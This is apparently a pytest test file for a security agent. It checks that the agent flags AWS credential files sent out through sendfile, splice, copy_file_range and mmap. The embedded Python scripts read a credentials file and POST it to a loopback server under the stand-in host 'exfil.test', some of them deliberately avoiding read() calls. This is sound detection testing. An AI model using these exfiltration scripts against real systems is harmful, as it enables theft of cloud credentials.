"""Credential bytes the kernel moves for a process (issue 14 item 4): sendfile, splice through a
pipe, copy_file_range into a new file, and mmap. The bytes never pass through the client's
memory (or pass without a read() the agent sees), yet each is egress or a read of the
credential: the agent raises tainted-egress naming the process, the file, the size and the
method, follows a copy to the file it made, and taints a process that mapped the file.

The clients are python3 run as a test user inside the test cgroup, sending to a loopback HTTP
server; the leak scanner checks every output at teardown.
"""

import pytest

from kharness.servers import sha256
from kharness.users import write_aws_credentials

ALERT_TIMEOUT = 6.0

# argv: credential file, server port. Sends an HTTP request whose body is the file, moved by
# the kernel with the method each script names.
_PROLOGUE = """
import os, socket, sys
path, port = sys.argv[1], int(sys.argv[2])
size = os.path.getsize(path)
s = socket.create_connection(("127.0.0.1", port))
s.sendall(b"POST /k HTTP/1.1\\r\\nHost: exfil.test\\r\\nConnection: close\\r\\n"
          b"Content-Length: %d\\r\\n\\r\\n" % size)
fd = os.open(path, os.O_RDONLY)
"""
_EPILOGUE = """
s.shutdown(socket.SHUT_WR)
s.recv(4096)
"""

SENDFILE = _PROLOGUE + """
sent = 0
while sent < size:
    sent += os.sendfile(s.fileno(), fd, sent, size - sent)
""" + _EPILOGUE

SPLICE = _PROLOGUE + """
r, w = os.pipe()
moved = os.splice(fd, w, size)
while moved:
    moved -= os.splice(r, s.fileno(), moved)
""" + _EPILOGUE

# The file's bytes are mapped, then sent with a plain send: no read() ever touches the file.
MMAP = _PROLOGUE + """
import mmap
m = mmap.mmap(fd, 0, prot=mmap.PROT_READ)
s.sendall(bytes(m[:]))
""" + _EPILOGUE

# argv: credential file, copy. Copies with copy_file_range only.
COPY = """
import os, sys
src = os.open(sys.argv[1], os.O_RDONLY)
dst = os.open(sys.argv[2], os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
left = os.path.getsize(sys.argv[1])
while left:
    left -= os.copy_file_range(src, dst, left)
"""

# argv: file, server port. A plain read and send of a file.
READ_AND_SEND = """
import socket, sys
data = open(sys.argv[1], "rb").read()
s = socket.create_connection(("127.0.0.1", int(sys.argv[2])))
s.sendall(b"POST /r HTTP/1.1\\r\\nHost: exfil.test\\r\\nConnection: close\\r\\n"
          b"Content-Length: %d\\r\\n\\r\\n" % len(data) + data)
s.shutdown(socket.SHUT_WR)
s.recv(4096)
"""

# argv: credential file. Bad fds, huge counts and a refused mmap against a watched fd.
HOSTILE = """
import ctypes, os, sys
fd = os.open(sys.argv[1], os.O_RDONLY)
for call in (lambda: os.sendfile(9999, fd, 0, 1 << 62),
             lambda: os.splice(fd, 9998, 1 << 40),
             lambda: os.copy_file_range(fd, 9997, 1 << 62)):
    try:
        call()
    except OSError:
        pass
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int,
                      ctypes.c_int, ctypes.c_long]
for length in (0, 1 << 62):
    libc.mmap(None, length, 1, 2, fd, 0)   # PROT_READ, MAP_PRIVATE: EINVAL, then ENOMEM
"""


def _send(clients, test_user, http_server, script, creds):
    result = clients.run(["python3", "-c", script, str(creds), str(http_server.port)],
                         user=test_user)
    [req] = http_server.wait_for_requests(1)
    assert req.body_sha256 == sha256(creds.read_bytes()), "the file did not reach the server"
    return result


def _transfer_alert(agent, pid, method):
    def predicate(alert):
        return (alert.get("kind") == "tainted-egress" and
                alert["process"]["pid"] == pid and f" with {method}" in alert["summary"])
    alerts = agent.wait_for_alerts(predicate, timeout=ALERT_TIMEOUT)
    assert alerts, f"no tainted-egress alert for {method}\n{agent.diagnostics()}"
    return alerts[0]


def _check(agent, alert, result, test_user, creds, port, size):
    assert alert["process"]["comm"] == "python3", agent.redacted(alert)
    assert alert["process"]["uid"] == test_user.uid
    assert alert["destination"]["ip"] == "127.0.0.1"
    assert alert["destination"]["port"] == port
    assert alert["secret"]["type"] == "aws-credentials"
    assert alert["evidence"]["credential_reads"][0]["path"] == str(creds), agent.redacted(alert)
    notes = " ".join(alert["evidence"]["notes"])
    assert "the kernel moved the bytes" in notes, agent.redacted(alert)
    assert f"(pid {result.pid}) sent {size} bytes" in alert["summary"], agent.redacted(alert)


# Method -> (script, how the summary says what moved). splice goes file -> pipe -> socket.
MOVES = {
    "sendfile": (SENDFILE, "of {creds}"),
    "splice": (SPLICE, "from a pipe carrying {creds}"),
}


@pytest.mark.parametrize("method", sorted(MOVES))
def test_a_credential_file_moved_to_a_socket_alerts_naming_file_size_and_destination(
        method, test_user, agent, clients, http_server, registry):
    creds = write_aws_credentials(test_user, registry)
    script, what = MOVES[method]
    result = _send(clients, test_user, http_server, script, creds)
    alert = _transfer_alert(agent, result.pid, method)
    size = creds.stat().st_size
    _check(agent, alert, result, test_user, creds, http_server.port, size)
    expected = (f"sent {size} bytes {what.format(creds=creds)} to "
                f"127.0.0.1:{http_server.port} with {method}")
    assert expected in alert["summary"], agent.redacted(alert)


def test_splice_from_a_pipe_cat_fills_names_the_reader(
        test_user, agent, clients, http_server, registry):
    creds = write_aws_credentials(test_user, registry)
    size = creds.stat().st_size
    drain = ("import os, socket, sys\n"
             "s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\n"
             "n = int(sys.argv[2])\n"
             "s.sendall(b'POST /p HTTP/1.1\\r\\nHost: exfil.test\\r\\nConnection: close\\r\\n'\n"
             "          b'Content-Length: %d\\r\\n\\r\\n' % n)\n"
             "while n:\n"
             "    n -= os.splice(0, s.fileno(), n)\n"
             "s.shutdown(socket.SHUT_WR)\n"
             "s.recv(4096)\n")
    script = f"cat {creds} | python3 -c \"$0\" {http_server.port} {size}"
    clients.run(["sh", "-c", script, drain], user=test_user)
    http_server.wait_for_requests(1)
    alerts = agent.wait_for_alerts(
        lambda a: a.get("kind") == "tainted-egress" and " with splice" in a["summary"],
        timeout=ALERT_TIMEOUT)
    assert alerts, f"no alert for the splice out of cat's pipe\n{agent.diagnostics()}"
    alert = alerts[0]
    assert alert["process"]["comm"] == "python3", agent.redacted(alert)
    assert f"sent {size} bytes from a pipe carrying {creds}" in alert["summary"], (
        agent.redacted(alert))
    assert "(cat (pid " in alert["summary"], agent.redacted(alert)
    reads = alert["evidence"]["credential_reads"]
    assert any(r["comm"] == "cat" and r["path"] == str(creds) for r in reads), (
        agent.redacted(alert))


def test_a_copy_made_with_copy_file_range_is_a_credential_file_naming_the_original(
        test_user, agent, clients, http_server, registry):
    creds = write_aws_credentials(test_user, registry)
    loot = creds.parent.parent / "loot.txt"
    clients.run(["python3", "-c", COPY, str(creds), str(loot)], user=test_user)
    assert loot.read_bytes() == creds.read_bytes()
    # No alert for the copy itself: a file is not egress.
    assert not agent.alerts(), agent.redacted(agent.alerts())
    sender = clients.run(["python3", "-c", READ_AND_SEND, str(loot), str(http_server.port)],
                         user=test_user)
    http_server.wait_for_requests(1)
    origin = f"{loot} (a copy of {creds})"

    def names_the_copy(alert):
        return (alert["process"]["pid"] == sender.pid and
                any(r["path"] == origin for r in alert["evidence"]["credential_reads"]))
    alerts = agent.wait_for_alerts(names_the_copy, timeout=ALERT_TIMEOUT)
    assert alerts, f"no alert naming {origin}\n{agent.diagnostics()}"
    assert f"after reading {origin}" in alerts[0]["summary"], agent.redacted(alerts)
    assert agent.wait_for_counter("derived_credential_files", 1), agent.diagnostics()


def test_mmap_of_a_credential_file_taints_the_mapper_and_its_send_alerts(
        test_user, agent, clients, http_server, registry):
    creds = write_aws_credentials(test_user, registry)
    result = _send(clients, test_user, http_server, MMAP, creds)
    alerts = agent.wait_for_alerts(lambda a: a["process"]["pid"] == result.pid,
                                   timeout=ALERT_TIMEOUT)
    assert alerts, f"no alert for the mapped file's send\n{agent.diagnostics()}"
    alert = alerts[0]
    assert alert["kind"] in ("credential-file-egress", "tainted-egress"), agent.redacted(alert)
    assert f"after reading {creds}" in alert["summary"], agent.redacted(alert)
    assert alert["destination"]["port"] == http_server.port
    # The map itself was seen (the kernel reported it), not only the open.
    assert agent.wait_for_counter("kernel_transfers", 1), agent.diagnostics()


def test_hostile_transfers_of_a_credential_fd_are_counted_and_the_agent_stays_up(
        test_user, agent, clients, http_server, registry):
    creds = write_aws_credentials(test_user, registry)
    clients.run(["python3", "-c", HOSTILE, str(creds)], user=test_user)
    assert agent.wait_for_counter("kernel.transfer_no_target", 3), agent.diagnostics()
    assert agent.wait_for_counter("kernel.transfer_failed", 2), agent.diagnostics()
    assert agent.running(), agent.diagnostics()
    assert not agent.alerts(), agent.redacted(agent.alerts())
    # And it still sees the next one.
    result = _send(clients, test_user, http_server, SENDFILE, creds)
    _transfer_alert(agent, result.pid, "sendfile")
